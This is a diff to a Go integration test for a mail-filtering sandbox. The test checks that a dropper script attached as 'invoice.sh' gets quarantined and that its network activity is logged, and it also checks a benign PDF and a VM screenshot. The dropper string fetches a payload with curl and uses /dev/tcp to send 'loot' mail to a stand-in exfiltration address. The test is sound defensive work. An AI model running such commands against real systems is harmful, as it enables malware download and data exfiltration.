@@ -76,7 +76,11 @@ func TestSandboxTCG(t *testing.T) {
 		"sandbox.domain_template": filepath.Join(dir, "domain.xml"), "sandbox.instances": "1",
 		"sandbox.base_image": guest, "sandbox.storage_pool": "mi-sandbox",
 		"sandbox.agent_base": "10.77.0.10:7480", "sandbox.fakenet": "10.77.0.1", "sandbox.call_timeout": "120s",
-		"sandbox.run_time": "20s", "sandbox.submission_timeout": "20m", "sandbox.teardown": teardown})
+		"sandbox.run_time": "20s", "sandbox.submission_timeout": "20m", "sandbox.teardown": teardown,
+		// Off port 25, so the guest's redirect of port 25 is what brings
+		// the sample's mail to it.
+		"sandbox.fakenet_smtp_port": "2525",
+		"sandbox.file_types":        "text/x-script,.sh,application/pdf"})
 	t.Cleanup(func() {
 		if t.Failed() {
 			b, _ := os.ReadFile(filepath.Join(dir, "mi-sbx-linux-0.serial.log"))
@@ -96,7 +100,12 @@ func TestSandboxTCG(t *testing.T) {
 	}
 	t.Logf("instance defined, booted, agent ready, snapshotted after %s", time.Since(start).Round(time.Second))
 
-	dropperTCG := dropper + "curl -s -m 5 http://update.example.com/payload -o /tmp/p || true\n"
+	// The dropper also fetches a payload by name and mails out to an
+	// address (not a name) on port 25.
+	dropperTCG := dropper + "curl -s -m 5 http://update.example.com/payload -o /tmp/p || true\n" +
+		"exec 5<>/dev/tcp/192.0.2.25/25 && read -r -t 5 greeting <&5 && " +
+		"printf 'HELO x\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<drop@exfil.example>\\r\\nDATA\\r\\n' >&5 && sleep 1 && " +
+		"printf 'Subject: loot\\r\\n\\r\\nloot\\r\\n.\\r\\nQUIT\\r\\n' >&5 && sleep 1\n"
 	bad := sendNew(t, a, withAttachment("invoice", "application/octet-stream", "invoice.sh", []byte(dropperTCG)))
 	d := waitState(t, a, bad, "quarantined", 15*time.Minute)
 	f := findingOf(d, "virtual-analyzer")
@@ -108,26 +117,51 @@ func TestSandboxTCG(t *testing.T) {
 	if e := trailEntry(d, "virtual-analyzer"); e.Outcome != "ok" || !strings.Contains(e.Detail, "no risk") {
 		t.Fatalf("the benign script: %+v", e)
 	}
-	v, err := cli.Exec(context.Background(), a, "show analysis "+sha([]byte(dropperTCG)))
+	// A PDF, opened with the guest's viewer: it ran, rendered, no risk.
+	pdf := testutil.OnePagePDF()
+	doc := sendNew(t, a, withAttachment("statement", "application/pdf", "statement.pdf", pdf))
+	d = waitState(t, a, doc, "delivered", 15*time.Minute)
+	if e := trailEntry(d, "virtual-analyzer"); e.Outcome != "ok" || !strings.Contains(e.Detail, "no risk") {
+		t.Fatalf("the PDF: %+v", e)
+	}
+	v, err := cli.Exec(context.Background(), a, "show analysis "+sha(pdf))
+	must(t, err)
+	if r := string(v.(*cli.Analysis).Report); !strings.Contains(r, `"how":"pdftoppm"`) || !strings.Contains(r, "page-1.png") {
+		t.Errorf("the PDF's report: %s", tail(r, 2000))
+	}
+
+	v, err = cli.Exec(context.Background(), a, "show analysis "+sha([]byte(dropperTCG)))
 	must(t, err)
 	var rep struct {
-		Verdict struct{ Matches []struct{ ID string } }
-		Report  struct{ Events []struct{ Type, Addr string } }
+		Verdict    struct{ Matches []struct{ ID string } }
+		Report     struct{ Events []struct{ Type, Addr string } }
+		Screenshot struct {
+			Bytes int
+			Error string
+		}
 	}
 	must(t, json.Unmarshal(v.(*cli.Analysis).Report, &rep))
-	var dnsSeen bool
+	var dnsSeen, mailSeen bool
 	for _, e := range rep.Report.Events {
-		if e.Type == "dns" && e.Addr == "update.example.com" {
-			dnsSeen = true
-		}
+		dnsSeen = dnsSeen || (e.Type == "dns" && e.Addr == "update.example.com")
+		mailSeen = mailSeen || (e.Type == "smtp" && e.Addr == "exfil.example")
 	}
 	if !dnsSeen {
 		t.Errorf("the fake internet did not see the DNS question: %+v", rep.Report.Events)
 	}
+	if !mailSeen {
+		t.Errorf("the mail to 192.0.2.25:25 did not reach the fake internet's SMTP on 2525: %+v", rep.Report.Events)
+	}
+	// qemu's screendump (PPM) came back as PNG in the page.
+	row, err := a.db.SandboxAnalysis(context.Background(), sha([]byte(dropperTCG)))
+	must(t, err)
+	if rep.Screenshot.Bytes == 0 || !strings.Contains(string(row.HTML), `<img src="data:image/png;base64,`) {
+		t.Errorf("no screenshot: %+v", rep.Screenshot)
+	}
 	st, _ := a.SandboxStatus(context.Background())
 	for _, r := range st.Status.Recent {
-		t.Logf("analysis %s: waited %d ms, took %d ms: revert %d ms, agent ready %d ms, run %d ms, teardown %d ms",
-			r.SHA256[:12], r.WaitedMS, r.TookMS, r.Phases.RevertMS, r.Phases.ReadyMS, r.Phases.RunMS, r.Phases.TeardownMS)
+		t.Logf("analysis %s: waited %d ms, took %d ms: revert %d ms, agent ready %d ms, run %d ms, screenshot %d ms, teardown %d ms",
+			r.SHA256[:12], r.WaitedMS, r.TookMS, r.Phases.RevertMS, r.Phases.ReadyMS, r.Phases.RunMS, r.Phases.ScreenshotMS, r.Phases.TeardownMS)
 	}
 	t.Logf("accelerator: %s; teardown %s; whole test %s", st.Accelerator, teardown, time.Since(start).Round(time.Second))
 }
